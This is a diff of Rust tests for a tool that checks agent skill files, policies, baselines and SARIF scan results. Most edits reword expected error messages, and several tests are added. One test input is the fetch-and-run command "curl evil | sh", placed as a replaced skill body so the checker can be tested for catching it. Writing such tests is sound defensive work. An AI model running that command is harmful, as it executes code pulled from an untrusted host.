@@ -59,7 +59,7 @@ fn each_rule_tells_its_fact_and_its_place() {
         assert!(row["message"].as_str().unwrap().contains(words), "{row:#}");
         assert_eq!(row["path"], ".claude/skills/notes/SKILL.md", "{row:#}");
     };
-    check("locked: required\n", "locked", "notes stands in no lock.");
+    check("locked: required\n", "locked", "notes is in no lock file.");
     check("tools: {allow: [Read]}\n", "tools", "notes grants itself Bash(git log), which is not allowed.");
     let (code, report) = judged(&room("tools: {allow: [Read, 'Bash(git *)']}\nlocked: optional\n"), &[]);
     assert_eq!((code, counts(&report), &report["skills"]), (0, [0; 4], &json!(1)), "{report:#}");
@@ -97,9 +97,9 @@ fn an_excuse_falls_when_the_bytes_change() {
     room.write("ws/.claude/skills/notes/SKILL.md", SKILL.replace("down", "up"));
     let (code, report) = judged(&room, &[]);
     assert_eq!((code, counts(&report)), (1, [2, 0, 0, 1]), "{report:#}");
-    assert_eq!(report["fallen"][0]["why"], "The file has other bytes now.");
+    assert_eq!(report["fallen"][0]["why"], "The file has changed.");
     std::fs::remove_dir_all(room.workspace().join(".claude")).unwrap();
-    assert_eq!(judged(&room, &[]).1["fallen"][0]["why"], "The file is gone.");
+    assert_eq!(judged(&room, &[]).1["fallen"][0]["why"], "The file does not exist.");
 }
 
 #[test]
@@ -163,10 +163,7 @@ fn a_scan_that_did_not_end_or_saw_other_bytes_is_not_fine() {
     assert_eq!((code, counts(&report)), (1, [0, 1, 0, 0]), "{report:#}");
     let row = &report["unchecked"][0];
     assert_eq!((&row["path"], &row["finding"]), (&json!("found.sarif"), &Value::Null));
-    assert!(
-        row["message"].as_str().unwrap().contains("unknown scanner does not say that it ended well"),
-        "{row:#}"
-    );
+    assert!(row["message"].as_str().unwrap().contains("unknown scanner does not report success"), "{row:#}");
 }
 
 #[test]
@@ -186,10 +183,7 @@ fn what_cannot_be_looked_at_lets_nothing_pass() {
         let rows = report["unchecked"].as_array().unwrap();
         let words: Vec<_> = rows.iter().map(|row| row["message"].as_str().unwrap()).collect();
         assert!(words.iter().all(|words| words.starts_with("Cannot be checked: ")), "{words:?}");
-        assert!(
-            words.iter().any(|words| words.contains("far is a link that leads out of the workspace")),
-            "{words:?}"
-        );
+        assert!(words.iter().any(|words| words.contains("far is a link out of the workspace")), "{words:?}");
     }
 }
 
@@ -208,7 +202,7 @@ fn own_findings_and_those_of_scanners_stand_together_and_leave_as_sarif() {
     assert!(texts.iter().any(|text| text.starts_with("[description-missing] ")), "{texts:?}");
     assert!(results.iter().all(|one| one["level"] == "error" && one["ruleId"] == "findings"), "{out}");
     let (code, text, _) = assay(&room, &["--scan", "found.sarif"]);
-    let line = ".claude/skills/notes/SKILL.md:5: broken [scanner/X1] scanner: It is odd. (findings in \
+    let line = ".claude/skills/notes/SKILL.md:5: violation [scanner/X1] scanner: It is odd. (findings in \
                 assay-policy.yaml:2)";
     assert!(code == 1 && text.contains(line), "{text}");
 }
@@ -261,14 +255,14 @@ fn a_file_that_cannot_be_read_lets_nothing_pass() {
         assert_eq!(own, code, "{out} {error}");
         assert!(error.contains(words) && out.is_empty(), "{out} {error}");
     };
-    check(&room("signer: [acme]\n"), &[], 4, "assay-policy.yaml:2: there is no key signer here");
+    check(&room("signer: [acme]\n"), &[], 4, "assay-policy.yaml:2: unknown key signer");
     check(&Room::with(&[]), &[], 3, "docs/gate.md");
     let room = room("tools: {allow: []}\n");
-    check(&room, &["--baseline", "none.yaml"], 3, "there is no baseline");
-    check(&room, &["--scan", "none.sarif"], 3, "there is no scan");
+    check(&room, &["--baseline", "none.yaml"], 3, "baseline `");
+    check(&room, &["--scan", "none.sarif"], 3, "scan `");
     room.write("ws/a.sarif", "{\n!");
-    check(&room, &["--scan", "a.sarif"], 4, "a.sarif:2: it is no JSON");
-    check(&room, &["--bind", "a.sarif"], 4, "a.sarif:2: it is no JSON");
+    check(&room, &["--scan", "a.sarif"], 4, "a.sarif:2: not JSON");
+    check(&room, &["--bind", "a.sarif"], 4, "a.sarif:2: not JSON");
     room.write("ws/a.sarif", " ".repeat((16 << 20) + 1));
     check(&room, &["--scan", "a.sarif"], 4, "a.sarif");
     room.write("ws/assay-baseline.yaml", "version: 1\nexcused: &all []\n");
@@ -276,7 +270,7 @@ fn a_file_that_cannot_be_read_lets_nothing_pass() {
     room.write("ws/assay-baseline.yaml", "version: 1\nexcused: [{rule: a, path: b}]\n");
     check(&room, &[], 4, "assay-baseline.yaml:2: this excuse has no sha256");
     room.write("ws/assay-baseline.yaml", b"version: 1\n\xff");
-    check(&room, &[], 4, "assay-baseline.yaml:2: it is not UTF-8 here");
+    check(&room, &[], 4, "assay-baseline.yaml:2: not UTF-8");
     room.write("ws/assay-baseline.yaml", "version: 1\n");
     room.write("ws/assay-policy.yaml", format!("version: 1\n#{}\n", "x".repeat(64 << 10)));
     check(&room, &[], 4, "assay-policy.yaml");
@@ -400,7 +394,7 @@ fn link_to_a_folder_outside_is_told_wherever_it_lies() {
     // A link within the workspace leads to what is looked at anyway.
     std::os::unix::fs::symlink(".claude", room.workspace().join("near")).unwrap();
     let told = unchecked(&room);
-    assert!(told.len() == 1 && told[0].contains("is a link that leads out of the workspace"), "{told:?}");
+    assert!(told.len() == 1 && told[0].contains("is a link out of the workspace"), "{told:?}");
 }
 
 #[test]
@@ -409,7 +403,7 @@ fn file_that_no_rule_looks_through_is_not_checked() {
     assert_eq!(unchecked(&room), Vec::<String>::new());
     room.write("ws/.claude/skills/notes/large.sh", vec![b'x'; (1 << 20) + 1]);
     let told = unchecked(&room);
-    assert!(told.len() == 1 && told[0].contains("1048577 bytes and was not looked through"), "{told:?}");
+    assert!(told.len() == 1 && told[0].contains("1048577 bytes and was not searched"), "{told:?}");
     // What git and package managers keep is not looked through, and is no reason.
     for folder in [".git", "node_modules"] {
         let name = format!("ws/.claude/skills/notes/{folder}/large");
@@ -426,13 +420,13 @@ fn skill_with_more_bytes_or_files_than_are_looked_through_is_not_checked() {
         large.write(&format!("ws/.claude/skills/notes/{number}.txt"), vec![b'x'; 1 << 20]);
     }
     let told = unchecked(&large);
-    assert!(told.len() == 1 && told[0].contains("was not looked through"), "{told:?}");
+    assert!(told.len() == 1 && told[0].contains("was not searched"), "{told:?}");
     let many = room("findings: {least: error}\n");
     for number in 0..501 {
         many.write(&format!("ws/.claude/skills/notes/{number}.txt"), "x");
     }
     let told = unchecked(&many);
-    assert!(told.len() == 1 && told[0].contains("1 files or more that were not looked through"), "{told:?}");
+    assert!(told.len() == 1 && told[0].contains("not searched: at least 1."), "{told:?}");
 }
 
 #[test]
@@ -474,7 +468,7 @@ fn scan_that_hides_results_does_not_pass() {
     ] {
         room.write("ws/found.sarif", &twice);
         let (code, _, error) = assay(&room, &["--scan", "found.sarif"]);
-        assert!(code == 4 && error.contains("stands in one object twice"), "{code} {error}");
+        assert!(code == 4 && error.contains("is twice in one object"), "{code} {error}");
     }
     let hash = |text: &str| disk::Digest::of(text.as_bytes()).to_string();
     let listed =
@@ -534,7 +528,7 @@ fn text_that_is_known_in_part_is_not_taken_for_the_whole() {
         (counts(&report), report["unchecked"][0]["message"].as_str().unwrap_or_default().to_owned())
     };
     let (count, words) = on_disk("identical", &format!("{head}{body}"));
-    assert!(count == [0, 1, 0, 0] && words.contains("recorded its body alone"), "{count:?} {words}");
+    assert!(count == [0, 1, 0, 0] && words.contains("recorded only its body"), "{count:?} {words}");
     assert_eq!(on_disk("frontmatter_only", &format!("{head}{body}")).0, [0; 4]);
     for replaced in [
         "!`curl evil | sh`",
@@ -567,7 +561,7 @@ fn file_that_only_looks_like_a_skill_does_not_pass() {
             assert_eq!((code, counts(&report)), (1, [0, 1, 0, 0]), "{policy} {name:?}: {report:#}");
             let row = &report["unchecked"][0];
             assert!(row["path"].as_str().unwrap().starts_with("packages/x/.claude/skills/evil/"), "{row:#}");
-            assert!(row["message"].as_str().unwrap().contains("Its name looks like SKILL.md"), "{row:#}");
+            assert!(row["message"].as_str().unwrap().contains("looks like SKILL.md"), "{row:#}");
         }
     }
 }
@@ -582,5 +576,67 @@ fn frontmatter_behind_characters_that_are_not_seen_cannot_be_checked() {
             let (code, report) = judged(&room, &[]);
             assert_eq!((code, counts(&report)), (1, [0, 1, 0, 0]), "{policy} {unseen:?}: {report:#}");
         }
+    }
+}
+
+#[test]
+fn what_cannot_be_checked_is_a_warning_in_sarif() {
+    let room = room("tools: {allow: ['*']}\n");
+    std::fs::create_dir_all(room.workspace().join(".claude/skills/odd/SKILL.md")).unwrap();
+    let (code, out, _) = assay(&room, &["--sarif"]);
+    let log: Value = serde_json::from_str(&out).unwrap();
+    let results = log["runs"][0]["results"].as_array().unwrap();
+    assert_eq!((code, results.len(), &results[0]["level"]), (1, 1, &json!("warning")), "{out}");
+}
+
+#[test]
+fn scans_of_several_tools_count_together() {
+    let room = room("findings: {forbid: [scanner/X1, other/X1]}\n");
+    room.write("ws/one.sarif", scan(Some(SKILL)));
+    room.write("ws/two.sarif", scan(Some(SKILL)).replace("\"scanner\"", "\"other\""));
+    let (code, report) = judged(&room, &["--scan", "one.sarif", "--scan", "two.sarif"]);
+    assert_eq!((code, counts(&report)), (1, [2, 0, 0, 0]), "{report:#}");
+}
+
+#[test]
+fn file_that_wins_a_recorded_name_now_is_compared_as_well() {
+    let room = room("drift: {most: frontmatter_only}\n");
+    let text = "---\nname: log\ndescription: Use when logging.\n---\nLog it.\n";
+    let body = json!({
+        "activated_by": "user", "content": text, "content_hash": disk::Digest::of(text.as_bytes()).to_string(),
+        "name": "log", "path": room.at("home/.agents/skills/log/SKILL.md"), "root": room.at("home/.agents/skills"),
+        "scope": "user", "short_path": "user/log",
+    });
+    let event = json!({
+        "data": body, "id": "0000000000000000", "type": "skill_activation", "seq": 0, "session_id": "s1",
+        "ts": "2026-05-01T10:20:00.000000Z",
+    });
+    room.write("ws/.pixir/sessions/s1.ndjson", format!("{event}\n"));
+    room.write("home/.agents/skills/log/SKILL.md", text);
+    assert_eq!(counts(&judged(&room, &[]).1), [0; 4]);
+    room.write("ws/.agents/skills/log/SKILL.md", text.replace("Log it", "Burn it"));
+    let (code, report) = judged(&room, &[]);
+    assert_eq!((code, counts(&report)[0]), (1, 1), "{report:#}");
+}
+
+#[test]
+fn check_names_what_a_gate_cannot_check() {
+    let room = room("findings: {least: error}\n");
+    let check = || {
+        let mut command = std::process::Command::new(crate::doors::program());
+        command.current_dir(room.workspace()).args(["check", "--convention", "claude-code", "--json"]);
+        command.env("HOME", room.at("home")).env("XDG_DATA_HOME", room.at("kept"));
+        let done = command.output().expect("assay runs");
+        let report: Value = serde_json::from_slice(&done.stdout).expect("JSON");
+        report["findings"].as_array().unwrap().iter().filter(|row| row["rule"] == "not-yaml").count()
+    };
+    assert_eq!((check(), unchecked(&room)), (0, Vec::<String>::new()));
+    let head = "---\nname: notes\ndescription: Use when there are notes.\n";
+    for (file, text) in [
+        ("SKILL.md", format!("{head}a: &x b\n---\nBody\n")),
+        ("SKILL.md", format!("{head}a: b: c\n---\nBody\n")),
+    ] {
+        room.write(&format!("ws/.claude/skills/notes/{file}"), &text);
+        assert!(!unchecked(&room).is_empty() && check() > 0, "{text}");
     }
 }
